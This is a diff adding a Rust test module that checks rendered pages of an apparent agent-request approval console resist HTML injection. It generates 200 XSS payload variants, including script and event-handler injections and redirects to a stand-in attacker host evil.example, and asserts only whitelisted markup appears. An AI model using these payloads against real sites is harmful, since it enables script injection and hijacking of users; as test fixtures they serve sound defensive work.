@@ -1,0 +1,198 @@
+//! What agents wrote never becomes an element or an attribute, wherever it stands on a page (CASES AP-13).
+
+use std::collections::BTreeSet;
+
+use serde_json::json;
+
+use crate::hold::HoldView;
+
+/// 20 kinds of payload in 10 dresses each.
+pub fn payloads() -> Vec<String> {
+    const KINDS: [&str; 20] = [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg><script href=data:,alert(1) />",
+        "<iframe srcdoc='<script>alert(1)</script>'>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<body onload=alert(1)>",
+        "<a href=javascript:alert(1)>x</a>",
+        "<form action=https://evil.example><button>",
+        "<base href=https://evil.example/>",
+        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+        "<link rel=stylesheet href=https://evil.example/x.css>",
+        "<style>*{background:url(https://evil.example)}</style>",
+        "<details open ontoggle=alert(1)>",
+        "<input autofocus onfocus=alert(1)>",
+        "<template shadowrootmode=open><script>alert(1)</script>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "onmouseover=alert(1) style=position:fixed",
+        "{{constructor.constructor('alert(1)')()}}${alert(1)}",
+        "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;",
+    ];
+    let dress: [fn(&str) -> String; 10] = [
+        |text| text.to_owned(),
+        |text| format!("\">{text}"),
+        |text| format!("'>{text}"),
+        |text| format!("</title></textarea></style></script>{text}"),
+        |text| format!("-->{text}<!--"),
+        |text| format!("]]>{text}<![CDATA["),
+        |text| format!("\" {text} x=\""),
+        |text| format!("</span></div></main>{text}"),
+        |text| text.replace('<', "<\u{0}").replace(' ', "/\u{c}"),
+        |text| text.to_uppercase().replace('A', "\u{202e}a\u{feff}"),
+    ];
+    KINDS.iter().flat_map(|kind| dress.iter().map(move |dress| dress(kind))).collect()
+}
+
+/// A hold all of whose texts are this one.
+pub fn hold(text: &str) -> HoldView {
+    let at = "2026-11-21T00:00:00.000Z";
+    serde_json::from_value(json!({
+        "id": "0195d6a0-0000-7000-8000-000000000001", "code": "K7QF", "state": "held", "agent": text,
+        "source": "127.0.0.1", "advisory": true, "method": "POST", "url": format!("https://forum.example/{text}"),
+        "http_version": "HTTP/1.1", "effect": text, "dialect": text, "operation": text, "rule": text, "why": [text],
+        "digest": format!("sha256:{}", "0".repeat(64)), "body_bytes": 1, "headers": [[text, text]], "created_at": at,
+        "deadline": at, "waiting": 0, "attempts": 1,
+        "decisions": [{"approver": text, "decision": "approve", "digest": null, "reason": text, "at": at}],
+        "outcome": {"status": 200, "at": at, "error": text},
+        "approvals": {"needed": 2, "given": [text], "groups": [text]}, "edited": {"by": text, "at": at, "original": text},
+        "frozen": true,
+    }))
+    .unwrap()
+}
+
+/// The names of a page's elements, and of their attributes with what stands in them.
+pub fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
+    let mut tags = Vec::new();
+    let mut rest = html;
+    while let Some(start) = rest.find('<') {
+        rest = &rest[start + 1..];
+        let (mut quoted, mut end) = (false, rest.len());
+        for (at, letter) in rest.char_indices() {
+            match letter {
+                '"' => quoted = !quoted,
+                '>' if !quoted => {
+                    end = at;
+                    break;
+                }
+                _ => {}
+            }
+        }
+        let inside = &rest[..end];
+        rest = &rest[end..];
+        let (name, mut fields) = inside.split_once(' ').unwrap_or((inside, ""));
+        let mut attributes = Vec::new();
+        while let Some((name, after)) = fields.split_once("=\"") {
+            let (value, after) = after.split_once('"').unwrap();
+            attributes.push((name.trim().to_owned(), value.to_owned()));
+            fields = after;
+        }
+        attributes.extend(fields.split_whitespace().map(|name| (name.to_owned(), String::new())));
+        tags.push((name.to_owned(), attributes));
+    }
+    tags
+}
+
+/// Every element, attribute and link is one of the templates'.
+pub fn assert_only_ours(case: &str, html: &str) {
+    let known: BTreeSet<&str> = [
+        "a", "article", "button", "code", "dd", "details", "div", "dl", "dt", "form", "h1", "h2", "input",
+        "kbd", "label", "li", "nav", "ol", "p", "q", "section", "span", "strong", "summary", "time", "ul",
+    ]
+    .into();
+    let attributes: BTreeSet<&str> = [
+        "action",
+        "aria-hidden",
+        "aria-label",
+        "autocapitalize",
+        "autocomplete",
+        "class",
+        "data-age",
+        "data-digest",
+        "data-given",
+        "data-hold",
+        "data-page",
+        "data-state",
+        "datetime",
+        "for",
+        "hidden",
+        "href",
+        "id",
+        "maxlength",
+        "method",
+        "name",
+        "placeholder",
+        "rel",
+        "required",
+        "role",
+        "spellcheck",
+        "type",
+        "value",
+    ]
+    .into();
+    for (element, fields) in tags(html) {
+        let element = element.trim_start_matches('/');
+        assert!(known.contains(element), "{case}: <{element}> in\n{html}");
+        for (name, value) in fields {
+            assert!(attributes.contains(name.as_str()), "{case}: {name}={value} of <{element}> in\n{html}");
+            let is_link = matches!(name.as_str(), "href" | "action");
+            assert!(
+                !is_link || (value.starts_with('/') && !value.starts_with("//")),
+                "{case}: {name}={value}"
+            );
+            let is_class = name == "class" || name == "id";
+            let is_plain = value.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"- _".contains(&byte));
+            assert!(!is_class || is_plain, "{case}: {name}={value}");
+        }
+    }
+    assert!(
+        !html.chars().any(|letter| matches!(letter, '\u{202e}' | '\u{feff}' | '\u{0}')),
+        "{case}: {html}"
+    );
+}
+
+#[test]
+fn the_checker_finds_what_it_is_for() {
+    assert_only_ours("ours", "<p class=\"x\">a &lt;script&gt;</p><input required>");
+    for wrong in [
+        "<script>x</script>",
+        "<p onclick=\"x\">",
+        "<a href=\"https://evil.example\">",
+        "<a href=\"//evil.example\">",
+        "<p style=\"x\">",
+        "<p class=\"a&quot;b\">",
+        "<img>",
+        "\u{202e}",
+    ] {
+        assert!(std::panic::catch_unwind(|| assert_only_ours("wrong", wrong)).is_err(), "{wrong}");
+    }
+}
+
+/// The templates have no way to write HTML but their own (CASES AP-13).
+#[test]
+fn no_file_of_the_page_writes_raw_html() {
+    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/page");
+    let mut files = 0;
+    for entry in std::fs::read_dir(dir).unwrap() {
+        let path = entry.unwrap().path();
+        let text = std::fs::read_to_string(&path).unwrap();
+        let doors: &[&str] = match path.extension().and_then(|extension| extension.to_str()) {
+            _ if path.ends_with("tests.rs") => &[],
+            Some("rs") => &["PreEscaped", "innerHTML"],
+            _ => &[
+                "innerHTML",
+                "outerHTML",
+                "insertAdjacent",
+                "document.write",
+                "eval(",
+                "DOMParser",
+                "http:",
+                "https:",
+            ],
+        };
+        files += 1;
+        doors.iter().for_each(|door| assert!(!text.contains(door), "{}: {door}", path.display()));
+    }
+    assert!(files > 10, "{files}");
+}
